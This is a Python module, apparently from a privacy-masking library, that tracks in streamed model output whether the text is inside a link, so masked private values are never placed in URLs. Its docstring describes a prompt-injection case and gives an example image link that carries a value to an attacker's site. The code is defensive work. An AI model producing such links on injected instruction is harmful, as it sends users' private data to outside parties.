r"""Is a place of a growing text inside a link? Values must never be put there.

Whoever can slip a model a text (a page, a document) can have it write `![](https://their.site/?q=<EMAIL_1>)`:
with the value in it, showing the answer would send it to them. Better one link too many than one too few.
"""

import re
from html import unescape

from aboveboard.privacy.masking._enclosures import Enclosures

_TAIL = 48
# How a link begins, with what opens it: a scheme, `//host`, `www.`, `host.tld/`, `host.tld:80/`; marks may be
# escaped, names of any script.
_START = re.compile(
    r"(?P<open>\\?[\"']|<|)(?:[a-z][a-z0-9+.-]{1,15}\\?:(?:\\?/|\\)"
    r"|(?:https?|data|javascript|mailto|sms|smsto|tel)\\?:|(?:\\?[/\\]){2}|www\."
    r"|(?<=[^\W_][.\uff0e])(?:[^\W\d_]{2,24}|xn--[a-z0-9-]{2,24})(?::[0-9]{1,5})?(?:\\?/|[?#]))",
    re.IGNORECASE,
)
_MAY_START = re.compile(r"[:/\\.?#&]")  # every start ends in one of these, or is written as an entity
_ENTITY = re.compile(
    r"&(?:#0{0,40}[0-9]{1,3};?|#[xX]0{0,40}[0-9a-fA-F]{1,2};?|(?:colon|sol|bsol|period|quest|num|Tab|NewLine);)"
)
_ENTITY_BEGINS = re.compile(r"&(?:#[xX]?[0-9a-fA-F]{0,46}|[A-Za-z]{0,7})?\Z")
# What ends it: what opened it (spaces may be inside then), else a quotation mark or white space, of ASCII:
# what finds links in text (CommonMark's extensions) reads on over any other.
_ENDS = {
    '"': re.compile(r'(?<!\\)"'),
    "'": re.compile(r"(?<!\\)'"),
    '\\"': re.compile('"'),
    "\\'": re.compile("'"),
    "<": re.compile(r"[>\n]"),
    "": re.compile(r"[ \t-\r]|(?<!\\)[\"<>]"),
}


class LinkWatch:
    """Reads a text in pieces; `is_inside` says whether what comes next continues a link."""

    def __init__(self) -> None:
        self._end: re.Pattern[str] | None = None
        self._tail = ""
        self._entity = ""
        self._enclosures = Enclosures()

    @property
    def is_inside(self) -> bool:
        return self._end is not None or self._enclosures.is_inside

    def read(self, text: str) -> None:
        """Takes in the next piece. Any split of a text gives the same; linear."""
        self._enclosures.read(text)
        text = self._decoded(text)
        if self._end is None and not _MAY_START.search(text):
            self._tail = (self._tail + text)[-_TAIL:]
            return
        text, place = self._tail + text, len(self._tail) if self._end else 0
        while place <= len(text):
            if self._end is not None:
                over = self._end.search(text, place)
                if over is None:
                    break
                self._end, place = None, over.start()
            start = _START.search(text, place)
            if start is None:
                break
            self._end, place = _ENDS[start["open"]], start.end()
        self._tail = text[max(place, len(text) - _TAIL) :] if self._end is None else text[-1:]

    def _decoded(self, text: str) -> str:
        """The text with its entities decoded, but for the beginning of one, which waits."""
        text, self._entity = self._entity + text, ""
        if "&" not in text:
            return text
        if begins := _ENTITY_BEGINS.search(text, max(0, len(text) - 50)):
            text, self._entity = text[: begins.start()], begins[0]
        return _ENTITY.sub(lambda match: unescape(match[0]), text)
